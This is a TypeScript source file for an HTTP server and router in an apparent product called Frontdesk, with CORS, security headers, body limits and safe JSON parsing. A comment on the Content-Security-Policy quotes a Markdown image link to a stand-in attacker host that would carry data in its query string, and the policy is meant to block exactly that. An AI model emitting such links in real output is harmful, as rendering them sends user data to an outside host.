import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { HttpRequest, HttpResponse, RouteHandler, RouteOptions, RouteRegistrar } from '../channel.js';
import { FrontdeskError, type ErrorCode } from '../errors.js';
import type { Logger } from '../logger.js';

interface Route {
  method: string;
  segments: string[];
  handler: RouteHandler;
  bodyLimit: number;
  cors: boolean;
}

const statusForCode: Partial<Record<ErrorCode, number>> = {
  body_invalid: 400,
  body_too_large: 413,
  not_found: 404,
  rate_limited: 429,
  signature_invalid: 401,
  store_failed: 503,
  channel_unavailable: 503,
};

const DEFAULT_BODY_LIMIT = 256 * 1024;

/**
 * The Content-Security-Policy of every page Frontdesk serves (the demo page with the widget, the dashboard): our own
 * script and styles only, no inline code, only our own API, no framing, and Trusted Types enforced, so even a slip
 * into innerHTML would throw instead of parsing markup. Images only from us: a Markdown-style
 * `![i](https://evil.test/?d=…)` could never become a request even if something rendered it.
 */
export const PAGE_CONTENT_SECURITY_POLICY = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "connect-src 'self'",
  "img-src 'self'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types 'none'",
].join('; ');
const emptyQuery = new URLSearchParams();

/** Security headers for every response; pages add their own Content-Security-Policy. */
const baseHeaders = {
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'no-referrer',
  'x-frame-options': 'DENY',
};

export interface HttpServer {
  routes: RouteRegistrar;
  listen(port: number, host?: string): Promise<{ port: number; url: string }>;
  close(): Promise<void>;
  readonly server: Server;
}

/**
 * The shared HTTP server: plain `node:http` with a small router. A framework would cost most of a turn's budget
 * (PERFORMANCE.md: Express ran at about a quarter of bare node:http), and the routes are few.
 */
export function createHttpServer(options: { logger: Logger; allowedOrigins?: readonly string[] }): HttpServer {
  const { logger } = options;
  const allowedOrigins = new Set((options.allowedOrigins ?? []).map((origin) => origin.replace(/\/+$/, '').toLowerCase()));
  const corsOrigin = (request: IncomingMessage): string | undefined => {
    const origin = request.headers.origin;
    return origin && allowedOrigins.has(origin.toLowerCase()) ? origin : undefined;
  };
  /** Whether any route with CORS on matches this path (for preflight requests, which name no handler). */
  const isCorsPath = (path: string) => {
    const segments = path.split('/').filter(Boolean);
    return [...staticRoutes.values(), ...paramRoutes].some((route) => route.cors && route.segments.length === segments.length && route.segments.every((segment, index) => segment.startsWith(':') || segment === segments[index]));
  };
  const staticRoutes = new Map<string, Route>();
  const paramRoutes: Route[] = [];

  const add = (method: string, path: string, handler: RouteHandler, routeOptions?: RouteOptions) => {
    const route: Route = { method, segments: path.split('/').filter(Boolean), handler, bodyLimit: routeOptions?.bodyLimit ?? DEFAULT_BODY_LIMIT, cors: routeOptions?.cors === true };
    if (path.includes(':')) paramRoutes.push(route);
    else staticRoutes.set(`${method} ${path}`, route);
  };

  const match = (method: string, path: string): { route: Route; params: Record<string, string> } | 'method' | undefined => {
    const exact = staticRoutes.get(`${method} ${path}`);
    if (exact) return { route: exact, params: {} };
    const segments = path.split('/').filter(Boolean);
    let pathMatched = false;
    for (const route of paramRoutes) {
      if (route.segments.length !== segments.length) continue;
      const params: Record<string, string> = {};
      let isMatch = true;
      for (let index = 0; index < segments.length; index++) {
        const expected = route.segments[index]!;
        if (expected.startsWith(':')) {
          try {
            params[expected.slice(1)] = decodeURIComponent(segments[index]!);
          } catch {
            isMatch = false;
            break;
          }
        } else if (expected !== segments[index]) {
          isMatch = false;
          break;
        }
      }
      if (!isMatch) continue;
      if (route.method === method) return { route, params };
      pathMatched = true;
    }
    if (pathMatched) return 'method';
    for (const key of staticRoutes.keys()) if (key.endsWith(` ${path}`)) return 'method';
    return undefined;
  };

  const send = (response: ServerResponse, result: HttpResponse) => {
    if (response.headersSent) return;
    // Object.assign, not `{ ...baseHeaders, ... }`: on Node 20 (V8 11) an object built by spreading and then given a
    // new key gets a hidden class of its own every time, each one old-generation garbage (README, "Hidden classes").
    const headers: Record<string, string> = Object.assign({}, baseHeaders, result.headers);
    let payload: string | Buffer | undefined;
    if (result.body === undefined) payload = undefined;
    else if (typeof result.body === 'string' || Buffer.isBuffer(result.body)) payload = result.body;
    else {
      payload = JSON.stringify(result.body);
      headers['content-type'] ??= 'application/json; charset=utf-8';
    }
    response.writeHead(result.status, headers);
    response.end(payload);
  };

  const sendError = (response: ServerResponse, status: number, code: string, message: string, headers?: Record<string, string>) =>
    send(response, { status, headers, body: { error: { code, message } } });

  const readBody = (request: IncomingMessage, limit: number): Promise<Buffer> =>
    new Promise((resolve, reject) => {
      const declared = Number(request.headers['content-length'] ?? 0);
      if (declared > limit) return reject(new FrontdeskError('body_too_large', `The body is ${declared} bytes; the limit is ${limit}.`));
      const chunks: Buffer[] = [];
      let size = 0;
      request.on('data', (chunk: Buffer) => {
        size += chunk.length;
        // Enforced while streaming, so a lying or missing Content-Length cannot make us buffer a huge body.
        if (size > limit) {
          request.pause();
          reject(new FrontdeskError('body_too_large', `The body is over the ${limit}-byte limit.`));
          return;
        }
        chunks.push(chunk);
      });
      request.on('end', () => resolve(chunks.length === 1 ? chunks[0]! : Buffer.concat(chunks)));
      request.on('error', reject);
    });

  const server = createServer(async (request, response) => {
    const url = request.url ?? '/';
    const queryStart = url.indexOf('?');
    const path = queryStart === -1 ? url : url.slice(0, queryStart);
    const method = request.method ?? 'GET';
    if (method === 'OPTIONS' && isCorsPath(path)) {
      const origin = corsOrigin(request);
      // An origin not on the list gets no CORS headers at all: the browser then refuses the real request.
      response.writeHead(204, origin ? { ...baseHeaders, 'access-control-allow-origin': origin, 'access-control-allow-methods': 'GET, POST', 'access-control-allow-headers': 'authorization, content-type, last-event-id', 'access-control-max-age': '600', vary: 'Origin' } : { ...baseHeaders, vary: 'Origin' });
      response.end();
      return;
    }
    const found = match(method === 'HEAD' ? 'GET' : method, path);
    if (found === undefined) return sendError(response, 404, 'not_found', `No route for ${method} ${path}.`);
    if (found === 'method') return sendError(response, 405, 'method_not_allowed', `${method} is not allowed on ${path}.`);
    if (found.route.cors) {
      const origin = corsOrigin(request);
      response.setHeader('vary', 'Origin');
      if (origin) {
        // Set before the handler runs, so errors and streams written by the handler carry it too.
        response.setHeader('access-control-allow-origin', origin);
        response.setHeader('access-control-expose-headers', 'Retry-After');
      }
    }
    try {
      const rawBody = method === 'GET' || method === 'HEAD' ? Buffer.alloc(0) : await readBody(request, found.route.bodyLimit);
      const httpRequest: HttpRequest = {
        method,
        path,
        params: found.params,
        query: queryStart === -1 ? emptyQuery : new URLSearchParams(url.slice(queryStart + 1)),
        headers: request.headers,
        rawBody,
        raw: request,
      };
      const result = await found.route.handler(httpRequest, response);
      if (result) send(response, result);
    } catch (error) {
      if (error instanceof FrontdeskError) {
        const status = statusForCode[error.code] ?? 500;
        if (status >= 500) logger.error({ err: error, path }, 'request failed');
        const headers: Record<string, string> = status === 413 ? { connection: 'close' } : {};
        const retryAfter = (error.details as { retryAfterSeconds?: number } | undefined)?.retryAfterSeconds;
        if (retryAfter !== undefined) headers['retry-after'] = String(retryAfter);
        return sendError(response, status, error.code, status >= 500 ? 'The server could not handle this request right now. Try again shortly.' : error.message, headers);
      }
      logger.error({ err: error, path }, 'unexpected error in a route');
      sendError(response, 500, 'internal', 'Something went wrong on our side.');
    }
  });
  server.keepAliveTimeout = 65_000;
  server.headersTimeout = 66_000;
  // A slow-loris body cannot hold a socket forever.
  server.requestTimeout = 30_000;

  return {
    server,
    routes: {
      get: (path, handler, routeOptions) => add('GET', path, handler, routeOptions),
      post: (path, handler, routeOptions) => add('POST', path, handler, routeOptions),
    },
    listen(port, host = '127.0.0.1') {
      return new Promise((resolve, reject) => {
        server.once('error', reject);
        server.listen(port, host, () => {
          server.off('error', reject);
          const address = server.address() as AddressInfo;
          const displayHost = host === '0.0.0.0' || host === '::' ? 'localhost' : host.includes(':') ? `[${host}]` : host;
          resolve({ port: address.port, url: `http://${displayHost}:${address.port}` });
        });
      });
    },
    close() {
      return new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      });
    },
  };
}

/**
 * Parses a JSON body, refusing what JSON.parse would accept but we should not: wrong content type, empty body,
 * deep nesting (a parser-stack and CPU hazard).
 */
export function parseJsonBody(request: HttpRequest, options: { maxDepth?: number; isOptional?: boolean } = {}): unknown {
  const contentType = String(request.headers['content-type'] ?? '');
  if (request.rawBody.length === 0) {
    if (options.isOptional) return {};
    throw new FrontdeskError('body_invalid', 'The body is empty; send a JSON object.');
  }
  if (!/^application\/(.+\+)?json\b/i.test(contentType)) throw new FrontdeskError('body_invalid', `Content-Type must be application/json (got ${contentType ? JSON.stringify(contentType) : 'none'}).`);
  const text = request.rawBody.toString('utf8');
  const maxDepth = options.maxDepth ?? 64;
  let depth = 0;
  let inString = false;
  for (let index = 0; index < text.length; index++) {
    const char = text.charCodeAt(index);
    if (inString) {
      if (char === 92) index++;
      else if (char === 34) inString = false;
    } else if (char === 34) inString = true;
    else if (char === 123 || char === 91) {
      if (++depth > maxDepth) throw new FrontdeskError('body_invalid', `The JSON is nested deeper than ${maxDepth} levels.`);
    } else if (char === 125 || char === 93) depth--;
  }
  try {
    return JSON.parse(text);
  } catch (cause) {
    throw new FrontdeskError('body_invalid', `The body is not valid JSON: ${(cause as Error).message}.`, { cause });
  }
}
